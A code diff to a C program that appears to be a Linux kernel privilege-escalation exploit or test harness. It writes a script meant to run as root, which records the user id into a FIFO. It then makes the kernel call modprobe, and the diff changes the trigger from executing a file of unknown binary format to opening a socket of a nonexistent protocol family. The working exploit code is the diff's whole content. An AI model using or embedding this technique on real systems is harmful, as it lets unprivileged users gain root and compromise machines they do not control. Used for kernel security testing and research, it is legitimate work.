@@ -30,7 +30,7 @@
 /* How long a program that the kernel runs may take to say so. */
 #define PATIENCE_MS	5000
 
-static const char nonsense[] = "/run/attack-nonsense";
+#define NO_FAMILY	12	/* DECnet, gone since 6.1, and a module before */
 
 /* A filter that the kernel compiles: long enough, and nothing in it to fold */
 static int filtered_socket(int device, struct attack_request *q)
@@ -73,15 +73,14 @@ static int write_file(const char *path, const char *text, mode_t mode)
 	return err;
 }
 
-/* The program that is to run as root, and a file that no one can run */
+/* The program that is to run as root */
 static int helper(int device, struct attack_request *q)
 {
 	unlink(ATTACK_FIFO);
 	if (mkfifo(ATTACK_FIFO, 0666) ||
 	    write_file(ATTACK_PROGRAM,
 		       "#!/bin/sh\necho \"uid $(id -u)\" > " ATTACK_FIFO "\n",
-		       0755) ||
-	    write_file(nonsense, "\xff\xff\xff\xff", 0755))
+		       0755))
 		return -1;
 	return 0;
 }
@@ -137,10 +136,10 @@ static void crash(int device)
 	raise(SIGABRT);
 }
 
-/* No binary format is known for it: the kernel asks modprobe. */
-static void run_nonsense(int device)
+/* No protocol family is known by that number: the kernel asks modprobe. */
+static void ask_for_family(int device)
 {
-	execl(nonsense, nonsense, NULL);
+	socket(NO_FAMILY, SOCK_DGRAM, 0);
 }
 
 /* What makes the kernel run its program: by an ordinary user, in a child */
@@ -163,7 +162,7 @@ static void trigger_core(int device)
 
 static void trigger_modprobe(int device)
 {
-	in_child(device, run_nonsense);
+	in_child(device, ask_for_family);
 }
 
 /* Nothing that an ordinary user does; the kernel does it when it gets hot. */
